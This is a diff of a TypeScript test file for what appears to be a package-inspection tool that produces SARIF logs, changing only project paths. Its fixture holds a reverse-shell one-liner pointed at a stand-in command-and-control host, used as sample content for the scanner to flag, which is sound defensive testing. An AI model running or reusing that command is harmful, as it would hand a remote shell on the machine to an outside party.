@@ -120,10 +120,10 @@ function inspected(path: string, content: string): PackageInspection {
 const shell = "bash -i >& /dev/tcp/c2.example.com/4444 0>&1\n";
 
 describe("a SARIF log", () => {
-  const inside = inspected("/work/project/skills/x", shell);
+  const inside = inspected("/srv/project/skills/x", shell);
   const known = { ...inside, findings: [], known: inside.findings };
   const log = sarifLog([inside, inspected("/elsewhere/y", shell), known], {
-    root: "/work/project",
+    root: "/srv/project",
     version: "1.2.3",
   }) as { readonly runs: readonly [Run] };
   const [run] = log.runs;
